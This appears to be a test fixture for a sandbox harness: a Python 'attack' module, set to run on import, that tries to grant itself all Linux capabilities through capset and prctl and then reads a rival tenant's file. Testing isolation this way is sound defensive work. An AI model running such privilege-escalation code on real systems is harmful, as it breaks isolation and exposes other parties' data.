# /// attack
# title = "Asks for capabilities"
# moments = ["import"]
# ///
import ctypes


def attack():
    libc = ctypes.CDLL(None)
    header = (ctypes.c_uint32 * 2)(0x20080522, 0)
    every = (ctypes.c_uint32 * 6)(*(0xFFFFFFFF,) * 6)
    libc.capset(header, every)
    libc.prctl(47, 2, 21, 0, 0)
    return open(WORLD["rival"]).read()
